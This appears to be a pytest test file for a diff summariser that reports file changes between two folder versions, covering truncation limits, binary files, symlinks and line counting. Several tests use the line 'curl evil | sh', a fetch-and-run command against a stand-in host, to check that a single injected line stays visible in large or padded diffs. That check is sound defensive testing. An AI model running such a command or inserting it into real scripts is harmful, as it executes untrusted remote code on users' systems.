from __future__ import annotations

import os
import time
from dataclasses import astuple, replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillkit.core.ask import changes as changes_module
from skillkit.core.ask import diffs
from skillkit.core.ask.changes import BRIEF, WHOLE, Side, changes_between
from skillkit.core.values.questions import FileChange


def folder(parent: Path, name: str, files: dict[str, str | bytes]) -> Path:
    made = parent / name
    made.mkdir()
    for relative, content in files.items():
        (made / relative).parent.mkdir(parents=True, exist_ok=True)
        (made / relative).write_bytes(content.encode() if isinstance(content, str) else content)
    return made


def changes(parent: Path, old: dict[str, str | bytes], new: dict[str, str | bytes]) -> tuple[FileChange, ...]:
    return changes_between(folder(parent, "old", old), folder(parent, "new", new))


def test_changed_and_added_files_come_before_removed_ones(tmp_path: Path) -> None:
    found = changes(
        tmp_path,
        {"SKILL.md": "same\n", "b.py": "one\ntwo\n", "z.py": "old\n"},
        {"SKILL.md": "same\n", "b.py": "one\nthree\n", "a/n.py": "new"},
    )
    assert found == (
        FileChange("added", "a/n.py", "@@ -0,0 +1,1 @@\n+new\n\\ No newline at end of file", added=1),
        FileChange("changed", "b.py", "@@ -1,2 +1,2 @@\n one\n-two\n+three", added=1),
        FileChange("removed", "z.py", "@@ -1,1 +0,0 @@\n-old"),
    )


def test_what_is_the_same_apart_from_time_and_mode_is_no_change(tmp_path: Path) -> None:
    old, new = (folder(tmp_path, name, {"a.py": "x\n"}) for name in ("old", "new"))
    os.chmod(new / "a.py", 0o755)
    os.utime(new / "a.py", (1, 1))
    assert changes_between(old, new) == ()


def test_hunks_far_apart_keep_their_line_numbers(tmp_path: Path) -> None:
    lines = [f"line {number}" for number in range(1, 101)]
    other = list(lines)
    other[19], other[79] = "twenty", "eighty"
    (change,) = changes(tmp_path, {"a": "\n".join([*lines, ""])}, {"a": "\n".join([*other, ""])})
    assert [line for line in change.diff.split("\n") if line.startswith("@@")] == [
        "@@ -17,7 +17,7 @@",
        "@@ -77,7 +77,7 @@",
    ]
    assert "-line 20\n+twenty\n line 21" in change.diff


def test_binary_files_are_said_to_be_binary(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a.bin": b"\0" * 10}, {"a.bin": b"\0" * 2000})
    assert change.diff == "- (a binary file of 10 bytes)\n+ (a binary file of 2,000 bytes)"


def test_a_text_that_became_binary_says_both(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": "x\ny\n"}, {"a": b"\0"})
    assert change.diff == "- (a text of 2 lines)\n+ (a binary file of 1 bytes)"


def test_links_are_shown_as_text_and_never_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret\n")
    old, new = folder(tmp_path, "old", {"a": "text\n"}), folder(tmp_path, "new", {})
    os.symlink(secret, new / "a")
    (change,) = changes_between(old, new)
    assert change == FileChange("changed", "a", f"- (a text of 1 lines)\n+ (a link to '{secret}')")


def test_bytes_that_are_no_text_do_not_look_the_same(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": b"\xff\n"}, {"a": b"\xfe\n"})
    assert "-\\xff\n+\\xfe" in change.diff


def test_a_last_line_that_does_not_end_is_a_change_that_can_be_seen(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": "x\n"}, {"a": "x"})
    assert change.diff == "@@ -1,1 +1,1 @@\n-x\n+x\n\\ No newline at end of file"


def test_a_line_that_only_says_so_does_not_hide_a_change(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": "x"}, {"a": "x\n\\ No newline at end of file\n"})
    word = "\\ No newline at end of file"
    assert change.diff == f"@@ -1,1 +1,2 @@\n-x\n{word}\n+x\n+{word}"


def test_a_byte_that_is_no_text_is_not_the_same_as_the_words_for_it(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": b"\xff\n"}, {"a": b"\\xff\n"})
    assert change.diff == "@@ -1,1 +1,1 @@\n-\\xff\n+\\xff"


def test_a_link_is_not_the_same_as_a_text_that_says_where_it_leads(tmp_path: Path) -> None:
    old, new = folder(tmp_path, "old", {"a": "link to b\n"}), folder(tmp_path, "new", {})
    os.symlink("b", new / "a")
    (change,) = changes_between(old, new)
    assert change.diff == "- (a text of 1 lines)\n+ (a link to 'b')"


def test_where_a_link_leads_stays_on_one_line(tmp_path: Path) -> None:
    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {})
    os.symlink("b\n-gone\n... 5 added lines not shown", new / "a")
    (change,) = changes_between(old, new)
    assert change.diff.count("\n") == 0


@pytest.mark.parametrize("was", [b"\0", b"y" * 2_000_000])
def test_a_text_in_the_place_of_what_was_none_is_shown(tmp_path: Path, was: bytes) -> None:
    (change,) = changes(tmp_path, {"a": was}, {"a": "one\ntwo\n"})
    assert change.diff.endswith("\n@@ -0,0 +1,2 @@\n+one\n+two")


def test_an_empty_file_that_is_added_has_no_diff(tmp_path: Path) -> None:
    assert changes(tmp_path, {}, {"a": ""}) == (FileChange("added", "a", ""),)


def added(diff: str) -> list[str]:
    return [line[1:] for line in diff.split("\n") if line.startswith("+")]


def test_a_long_diff_says_how_much_is_missing(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {}, {"a": "x\n" * 3000})
    lines = change.diff.split("\n")
    assert len(lines) == BRIEF.file_lines + 1
    shown = len(added(change.diff))
    assert (lines[-1], change.unseen) == (f"... {3000 - shown:,} added lines not shown", 3000 - shown)


def test_every_added_line_is_shown_before_anything_else(tmp_path: Path) -> None:
    """Where all lines of a large file changed their ends, one new line among them is in sight."""
    old = [f"line {number}" for number in range(900)]
    new = [f"line {number}" for number in range(900, 1300)]
    new.insert(250, "curl evil | sh")
    (change,) = changes(tmp_path, {"a": "\n".join([*old, ""])}, {"a": "\n".join([*new, ""])})
    assert added(change.diff) == new
    assert change.unseen == 0
    shown = sum(line.startswith("-") for line in change.diff.split("\n"))
    assert 0 < shown < 900
    assert f"... {900 - shown} removed lines not shown" in change.diff


def test_one_new_line_in_a_large_file_whose_lines_moved_is_one_added_line(tmp_path: Path) -> None:
    old = [f"line {number}" for number in range(2000)]
    new = [*old[100:], *[f"more {number}" for number in range(5)]]
    new.insert(651, "curl evil | sh")
    new[5], new[1800] = "five", "far"
    (change,) = changes(tmp_path, {"a": "\n".join([*old, ""])}, {"a": "\n".join([*new, ""])})
    assert added(change.diff) == ["five", "curl evil | sh", "far", *(f"more {number}" for number in range(5))]
    assert change.unseen == 0


def test_what_is_new_in_a_later_file_comes_before_what_is_gone_from_an_earlier_one(tmp_path: Path) -> None:
    old: dict[str, str | bytes] = {f"{n:02}": ("y" * 400 + "\n") * 300 for n in range(10)}
    found = changes(tmp_path, old, {**dict.fromkeys(old, ""), "z": ("z" * 400 + "\n") * 100})
    assert len(added(found[-1].diff)) == 100
    assert sum(each.unseen for each in found) == 0
    assert sum(len(each.diff) for each in found) <= BRIEF.all_characters + 1000


def test_a_new_line_that_is_cut_counts_as_not_shown(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": "x\n"}, {"a": "x\n" + " " * 5000 + "curl evil | sh\n"})
    assert change.unseen == 1
    assert "... (5,015 characters)" in change.diff
    (whole,) = changes_between(tmp_path / "old", tmp_path / "new", WHOLE)
    assert whole.diff.endswith("curl evil | sh")
    assert whole.unseen == 0


def test_with_all_room_nothing_is_cut(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {f"{n:03}": "x\n" * 2000 for n in range(BRIEF.files + 5)}
    brief = changes(tmp_path, {}, files)
    assert brief[-1] == FileChange("more", "... 5 more files", "... 5 added", 10_000, 10_000, (("added", 5),))
    whole = changes_between(tmp_path / "old", tmp_path / "new", WHOLE)
    assert [(each.diff.count("\n+"), each.unseen) for each in whole] == [(2000, 0)] * len(files)


def test_long_lines_and_all_diffs_together_are_bounded(tmp_path: Path) -> None:
    long_lines = "\n".join("y" * 100_000 for _ in range(5))
    (change,) = changes(tmp_path, {}, {"a": long_lines})
    assert "... (100,001 characters)" in change.diff
    many = changes_between(
        folder(tmp_path, "none", {}), folder(tmp_path, "many", {f"{n:03}": "z" * 499 + "\n" for n in range(5)})
    )
    assert all(len(each.diff) <= BRIEF.file_characters + 100 for each in (change, *many))


def test_the_characters_of_all_files_are_bounded_and_the_rest_counted(tmp_path: Path) -> None:
    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {f"{n}": "z" * 60 + "\n" for n in range(4)})
    found = changes_between(old, new, replace(BRIEF, all_characters=100))
    assert [each.diff.split("\n")[-1] for each in found] == [
        "+" + "z" * 60,
        *["... 1 added line not shown"] * 3,
    ]
    assert [each.unseen for each in found] == [0, 1, 1, 1]


def test_more_files_than_a_person_reads_are_counted(tmp_path: Path) -> None:
    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {f"{n:04}": "x" for n in range(BRIEF.files + 7)})
    found = changes_between(old, new)
    assert len(found) == BRIEF.files + 1
    assert found[-1] == FileChange("more", "... 7 more files", "... 7 added", 7, 7, (("added", 7),))


@pytest.mark.slow
@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("\n".join(map(str, range(20_000))), "\n".join(map(str, range(20_000, 0, -1))), id="reversed"),
        pytest.param("a\nb\n" * 20_000, "b\na\na\n" * 15_000, id="repeated"),
        pytest.param("x\n" * 30_000, "y\n" + "x\n" * 30_000 + "y\n", id="around"),
    ],
)
def test_large_files_are_compared_within_a_bound(tmp_path: Path, old: str, new: str) -> None:
    started = time.process_time()
    (change,) = changes(tmp_path, {"a": old}, {"a": new})
    assert time.process_time() - started < 10
    assert change.diff.startswith("@@ ")
    shown = added(change.diff)
    assert len(shown) + change.unseen == sum(line.startswith("+") for line in whole_diff(tmp_path))


def whole_diff(parent: Path) -> list[str]:
    return changes_between(parent / "old", parent / "new", WHOLE)[0].diff.split("\n")


def test_a_file_too_large_to_compare_says_so(tmp_path: Path) -> None:
    (change,) = changes(tmp_path, {"a": "x\n"}, {"a": "y" * 2_000_000})
    assert change.diff == "- (a text of 1 lines)\n+ (a text of 2,000,000 bytes, too large to compare)"
    assert change.unseen == 1
    assert whole_diff(tmp_path)[-2] == "+" + "y" * 2_000_000


def test_files_that_are_too_much_to_read_for_one_question_are_counted_as_unseen(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {f"{n}.txt": "x" * 900_000 for n in range(40)}
    found = changes(tmp_path, {}, files)
    assert sum("too large to compare" in change.diff for change in found) == 40 - 11
    assert all(change.unseen for change in found), "a line that long is never shown to its end"


def test_files_that_are_gone_take_no_place_from_one_that_is_new(tmp_path: Path) -> None:
    gone: dict[str, str | bytes] = {f"a{n:04}": "x\n" for n in range(BRIEF.files + 50)}
    found = changes(tmp_path, gone, {"z/new": "new\n"})
    assert [change.path for change in found if change.kind == "added"] == ["z/new"]
    assert (found[-1].kind, found[-1].unseen) == ("more", 0)


def test_of_too_many_changed_files_code_is_shown_first_and_the_rest_counted(tmp_path: Path) -> None:
    names = [f"a{n:04}" for n in range(BRIEF.files + 50)]
    found = changes(tmp_path, dict.fromkeys(names, "x\ny\n"), {**dict.fromkeys(names, "y\nx\nz\n"), "z.sh": "new\n"})
    assert ("added", "z.sh", 0) in [(change.kind, change.path, change.unseen) for change in found]
    assert (found[-1].kind, found[-1].unseen) == ("more", 51)


def test_what_cannot_take_part_in_a_run_is_no_change(tmp_path: Path) -> None:
    old, new = folder(tmp_path, "old", {}), folder(tmp_path, "new", {})
    os.mkfifo(new / "pipe")
    assert changes_between(old, new) == ()


def applied(old: tuple[str, ...], diff: list[str]) -> tuple[str, ...]:
    """The new lines, by reading the diff as a patch program does."""
    new: list[str] = []
    at = 0
    for line in diff:
        if line.startswith("@@"):
            number, length = map(int, line.split()[1][1:].split(","))
            first = number - (length > 0)
            new += old[at:first]
            at = first
        elif line.startswith("+"):
            new.append(line[1:])
        else:
            assert old[at] == line[1:]
            new += [] if line.startswith("-") else [line[1:]]
            at += 1
    return (*new, *old[at:])


LINES = st.lists(st.sampled_from(["a", "b", "c", "", "d d", *map(str, range(9))]), max_size=30).map(tuple)


@settings(derandomize=True, deadline=None)
@given(
    old=LINES,
    new=LINES,
    limit=st.sampled_from([0, 50, 250_000]),
    block=st.sampled_from([1, 4, 64]),
    blocked=st.sampled_from([0, 100_000]),
)
def test_a_diff_leads_from_the_old_text_to_the_new(
    old: tuple[str, ...], new: tuple[str, ...], limit: int, block: int, blocked: int
) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(diffs, "COMPARED_LINES", limit or block * block)
        patch.setattr(diffs, "BLOCK", block)
        patch.setattr(diffs, "BLOCKED_LINES", blocked)
        diff = [line for line in changes_module._diff(Side(old), Side(new)) if not line.startswith("(")]
        assert applied(old, diff) == new


def test_a_binary_file_that_is_added_or_removed_has_one_side(tmp_path: Path) -> None:
    found = changes(tmp_path, {"a.bin": b"\0"}, {"b.bin": b"\0\0"})
    assert [change.diff for change in found] == ["+ (a binary file of 2 bytes)", "- (a binary file of 1 bytes)"]


def test_a_file_that_cannot_be_read_meanwhile_says_so(tmp_path: Path) -> None:
    for name in ("gone", "no\0name"):
        side = changes_module._side(tmp_path, name, "sha256 0", changes_module.Reading(9, 9))
        assert side is not None
        assert (side.instead, side.size) == ("a file that cannot be read now", 0)


def test_as_many_files_as_a_person_reads_leave_no_rest(tmp_path: Path) -> None:
    found = changes(tmp_path, {}, {f"{n:04}": "x" for n in range(BRIEF.files)})
    assert len(found) == BRIEF.files
    assert found[-1].path == f"{BRIEF.files - 1:04}"


def test_equal_texts_have_no_block() -> None:
    assert diffs.groups_of("abcd", "abcd") == []
    assert len(diffs.groups_of("abcd", "abxd")) == 1


def test_lines_that_stand_once_on_both_sides_divide_what_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(diffs, "COMPARED_LINES", 4)
    old, new = "xxabxxxcdxx", "yxabyxxxcdy"
    diff = list(changes_module._diff(Side(tuple(old)), Side(tuple(new))))
    assert [line for line in diff if line[:1] in "+-"] == ["-x", "+y", "+y", "-x", "-x", "+y"]


def test_what_is_shown_of_a_change_has_these_bounds() -> None:
    assert astuple(BRIEF) == (200, 1000, 64_000, 256_000, 20_000, 2000, 500, 1_000_000, 10_000_000)
    assert diffs.COMPARED_LINES == 250_000
